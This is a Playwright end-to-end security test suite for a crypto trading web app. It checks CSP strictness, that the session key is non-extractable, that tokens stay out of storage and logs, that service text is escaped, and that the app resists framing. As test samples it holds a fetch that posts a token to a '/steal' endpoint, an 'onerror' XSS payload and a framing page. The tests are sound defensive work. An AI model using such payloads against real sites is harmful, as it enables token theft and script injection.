import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { BASE, PORTS } from './support/ports';
import { signInWith, storedToken } from './support/session';

/** CSP violations the page reports, collected from its first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    (window as unknown as { __violations: string[] }).__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __violations: string[] }).__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the built app ships a strict CSP: no inline script, network only to the configured services', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/trade/BTC-USD');
  await expect(page.getByTestId('book-bids').getByTestId('book-bids-row').first()).toContainText(/\d/);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).not.toMatch(/script-src[^;]*unsafe/);
  const connect = csp!.split(';').find((d) => d.trim().startsWith('connect-src'))!;
  expect(connect).toContain(BASE);
  expect(connect).not.toContain('*');
  // Normal use raised no violation.
  expect(await violations()).toEqual([]);

  // An injected inline script does not run, and nothing can be sent to another host.
  const outcome = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.append(s);
    let exfiltrated = true;
    await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'token' }).catch(() => {
      exfiltrated = false;
    });
    return { injected: (window as unknown as { __injected?: boolean }).__injected ?? false, exfiltrated };
  });
  expect(outcome).toEqual({ injected: false, exfiltrated: false });
  await expect.poll(violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.1:9/)]));
});

test('the session key is non-extractable, and no token or key reaches storage, URLs or logs', async ({ page }) => {
  const logs: string[] = [];
  page.on('console', (m) => logs.push(m.text()));
  const urls: string[] = [];
  page.on('request', (r) => urls.push(r.url()));
  page.on('websocket', (ws) => urls.push(ws.url()));
  await page.goto('/trade/BTC-USD');
  await signInWith(page, /Devnet wallet/);
  const token = (await storedToken(page))!;
  expect(token.length).toBeGreaterThan(20);
  await page.reload();
  await expect(page.getByTestId('account-menu')).toBeVisible();

  const key = await page.evaluate(
    () =>
      new Promise<{ extractable: boolean; exported: string; algorithm: string }>((resolve) => {
        const open = indexedDB.open('perps-session');
        open.onsuccess = () => {
          const get = open.result.transaction('session').objectStore('session').get('current');
          get.onsuccess = async () => {
            const pair = (get.result as { keyPair: CryptoKeyPair }).keyPair;
            const exported = await crypto.subtle.exportKey('pkcs8', pair.privateKey).then(
              () => 'exported',
              (e: unknown) => (e instanceof Error ? e.name : String(e)),
            );
            resolve({ extractable: pair.privateKey.extractable, exported, algorithm: pair.privateKey.algorithm.name });
          };
        };
      }),
  );
  expect(key).toEqual({ extractable: false, exported: 'InvalidAccessError', algorithm: 'Ed25519' });

  const storage = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
  expect(storage).not.toContain(token);
  expect(storage).not.toMatch(/PRIVATE|pkcs8|secret/i);
  expect(urls.filter((u) => u.includes(token) || /token=|access_token/.test(u))).toEqual([]);
  expect(logs.filter((l) => l.includes(token))).toEqual([]);
  expect(page.url()).not.toContain(token);
});

test('service strings are rendered as text, never as markup', async ({ page }) => {
  // The refusal comes from a routed HTTP new_order, so orders take HTTP here (src/trading/order-path.ts).
  await page.addInitScript(() => localStorage.setItem('perps.order-path', 'http'));
  await page.goto('/trade/BTC-USD');
  await signInWith(page, /Devnet wallet/);
  const token = (await storedToken(page))!;
  await page.request.post(`${BASE}/devnet/faucet`, { headers: { authorization: `Bearer ${token}` }, data: { amount: '50000', wallet: 'perps' } });
  await expect(page.getByTestId('available')).toContainText('50,000');
  const hostile = '<img src=x onerror="window.__xss=1">bad order';
  await page.route('**/api/new_order', (route) =>
    route.fulfill({ status: 400, contentType: 'application/json', body: JSON.stringify({ code: 400, message: hostile, request_id: 'e2e' }) }),
  );
  await page.getByTestId('order-form').getByRole('tab', { name: 'Market' }).click();
  await page.locator('#order-size').fill('0.001');
  await page.getByTestId('submit-order').click();
  await expect(page.getByText(hostile)).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  // The form kept what was typed.
  await expect(page.locator('#order-size')).toHaveValue('0.001');
});

/** A page on another origin (another local port) that frames the app, and a frameable page as a control. */
async function framingSite(appUrl: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server: Server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    if (req.url === '/plain') return res.end('<!doctype html><p id="plain">frameable</p>');
    res.end(`<!doctype html><iframe id="app" src="${appUrl}" width="800" height="600"></iframe><iframe id="control" src="/plain"></iframe>`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, close: () => new Promise((r) => server.close(() => r())) };
}

test('the app is served with security headers and cannot be framed by another site', async ({ page }) => {
  const response = await page.goto('/trade/BTC-USD');
  const headers = response!.headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['content-security-policy']).toContain("script-src 'self'");
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  // … exactly what the _headers file written next to the build says (what a static host sends).
  const built = await page.request.get('/_headers');
  expect(built.status()).toBe(200);
  const lines = (await built.text()).split('\n').filter((l) => /^\s+\S/.test(l));
  expect(Object.fromEntries(lines.map((l) => [l.slice(0, l.indexOf(':')).trim().toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]))).toEqual({
    'content-security-policy': headers['content-security-policy'],
    'x-frame-options': headers['x-frame-options'],
    'x-content-type-options': headers['x-content-type-options'],
    'referrer-policy': headers['referrer-policy'],
  });
  // The app's scripts carry them too (nosniff matters for every response).
  const script = await page.locator('script[src]').first().getAttribute('src');
  expect((await page.request.get(script!)).headers()['x-content-type-options']).toBe('nosniff');

  const appUrl = `http://127.0.0.1:${PORTS.app}/trade/BTC-USD`;
  const site = await framingSite(appUrl);
  try {
    await page.goto(site.url);
    // The control frame from the framing site itself loads: the test can see a frame render.
    await expect(page.frameLocator('#control').locator('#plain')).toHaveText('frameable');
    const appFrame = () => page.frames().find((f) => f.url().startsWith(appUrl) || f.url().startsWith('chrome-error:'));
    await expect.poll(() => appFrame()?.url()).toBeTruthy();
    // Give a framed app time to render, then check it never did.
    await page.waitForTimeout(3_000);
    const frame = appFrame()!;
    expect(frame.url()).toMatch(/^chrome-error:/);
    expect(await page.frameLocator('#app').getByTestId('book-bids').count()).toBe(0);
  } finally {
    await site.close();
  }
});
